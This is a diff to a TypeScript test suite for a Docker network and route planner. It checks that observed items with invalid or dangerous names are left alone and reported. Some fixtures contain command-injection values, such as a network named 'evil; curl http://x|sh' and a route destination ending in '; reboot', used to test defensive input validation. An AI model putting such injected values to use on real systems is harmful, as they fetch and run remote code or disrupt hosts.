@@ -103,9 +103,11 @@ interface Case {
   /** changes made on the host behind crossdock's back */
   drift?: (observed: ObservedState) => void;
   expected: Command[];
+  /** what each note on an observed thing left alone must say (default: none left alone) */
+  skipped?: Array<string | RegExp>;
 }
 
-function run(c: Case): Command[] {
+function run(c: Case, skipped: string[] = []): Command[] {
   const self = c.self ?? A;
   const hosts = c.hosts ?? [self];
   const facts = hostFacts(c.facts);
@@ -118,15 +120,17 @@ function run(c: Case): Command[] {
     observed = applied(desiredState(before.self, before.hosts, POOLS, env), facts);
   }
   c.drift?.(observed);
-  return plan(desiredState(self, hosts, POOLS, env), observed);
+  return plan(desiredState(self, hosts, POOLS, env), observed, undefined, skipped);
 }
 
 function table(cases: Case[]): void {
   it.each(cases.map((c) => [c.name, c] as const))('%s', (_name, c) => {
-    const commands = run(c);
+    const skipped: string[] = [];
+    const commands = run(c, skipped);
     expect(commands).toStrictEqual(c.expected);
     // whatever the planner sends, the executor must accept
     expect(validateCommands(commands)).toMatchObject({ ok: true });
+    expect(skipped).toEqual((c.skipped ?? []).map((m) => (typeof m === 'string' ? expect.stringContaining(m) : expect.stringMatching(m))));
   });
 }
 
@@ -404,6 +408,56 @@ describe('plan: foreign things are left alone', () => {
   ]);
 });
 
+describe('plan: observed things no valid command can name are left alone, and noted', () => {
+  const managed = (name: string) => ({ id: name, name, subnet: '10.100.9.0/24', gateway: '10.100.9.1', labels: { 'io.crossdock.managed': 'true' }, containers: 0 });
+  const stray = (dst: string) => ({ dst, via: '198.51.100.1', dev: 'ens3' });
+  const EVIL = 'evil; curl http://x|sh';
+  table([
+    {
+      name: 'a labelled network whose name a shell would run: not removed',
+      drift: (o) => void o.docker.networks.push(managed(EVIL)),
+      expected: [],
+      skipped: [/^left alone: Docker network "evil; curl http:\/\/x\|sh" \(labelled io\.crossdock\.managed=true\): docker\.network\.remove name: .*; fix it by hand$/],
+    },
+    { name: "a labelled network named after one of Docker's own: not removed", drift: (o) => void o.docker.networks.push(managed('bridge')), expected: [], skipped: ['"bridge"'] },
+    { name: 'a labelled network with an empty name', drift: (o) => void o.docker.networks.push(managed('')), expected: [], skipped: ['Docker network ""'] },
+    {
+      name: 'a labelled network with a 100,000-character name: noted by a short prefix',
+      drift: (o) => void o.docker.networks.push(managed('n'.repeat(100_000))),
+      expected: [],
+      skipped: [/^left alone: Docker network "n{64}…" \(100000 characters\).{0,400}$/],
+    },
+    {
+      name: 'a valid stale network beside an invalid one: the valid one is still removed',
+      drift: (o) => void o.docker.networks.push(managed('crossdock-old'), managed(`${EVIL}2`)),
+      expected: [networkRemove('crossdock-old')],
+      skipped: ['evil'],
+    },
+    { name: 'a default route tagged with our protocol: not deleted', hosts: [A, B], drift: (o) => void o.routes.push(stray('0.0.0.0/0')), expected: [], skipped: [/route "0\.0\.0\.0\/0" \(protocol 252\): .*default route/] },
+    { name: 'a route whose destination is not a CIDR', hosts: [A, B], drift: (o) => void o.routes.push(stray('10.9.9.0/24; reboot')), expected: [], skipped: ['"10.9.9.0/24; reboot"'] },
+    { name: 'a route with host bits set', hosts: [A, B], drift: (o) => void o.routes.push(stray('10.9.9.1/24')), expected: [], skipped: ['host bits'] },
+    {
+      name: 'a stale route beside an invalid one: the stale one is still deleted',
+      hosts: [A, B],
+      drift: (o) => void o.routes.push(stray('default'), stray('10.200.0.0/24')),
+      expected: [{ kind: 'route.delete', dst: '10.200.0.0/24' }],
+      skipped: ['"default"'],
+    },
+    {
+      name: 'thousands of invalid items: twenty notes and a count',
+      hosts: [A, B],
+      drift: (o) => void o.routes.push(...Array.from({ length: 5000 }, (_, i) => stray(`bad-${i}`))),
+      expected: [],
+      skipped: [...Array.from({ length: 20 }, (_, i) => `"bad-${i}"`), 'left alone: 4980 more like these'],
+    },
+    {
+      name: 'an unlabelled network with such a name is not ours: no note',
+      drift: (o) => void o.docker.networks.push({ ...managed(EVIL), labels: {} }),
+      expected: [],
+    },
+  ]);
+});
+
 describe('plan: in sync', () => {
   table([
     { name: 'a host alone', expected: [] },
@@ -437,5 +491,18 @@ describe('plan: limits', () => {
     }
     expect(rounds.map((r) => r.filter((c) => c.kind === 'route.delete').length)).toEqual([10, 10, 5]);
     expect(rounds[0]).toContainEqual(route(2, B.address));
+  });
+
+  it('routes left alone as invalid do not count against the limit', () => {
+    const env = environmentOf(hostFacts());
+    const desired = desiredState(A, [A], POOLS, env);
+    const observed = applied(desired, hostFacts());
+    observed.routes.push(...['default', 'x', '0.0.0.0/0', '10.201.0.0/24', '10.202.0.0/24', '10.203.0.0/24'].map((dst) => ({ dst, via: '198.51.100.50', dev: 'ens3' })));
+    const skipped: string[] = [];
+    expect(plan(desired, observed, { maxRouteDeletes: 2 }, skipped)).toStrictEqual([
+      { kind: 'route.delete', dst: '10.201.0.0/24' },
+      { kind: 'route.delete', dst: '10.202.0.0/24' },
+    ]);
+    expect(skipped).toHaveLength(3);
   });
 });
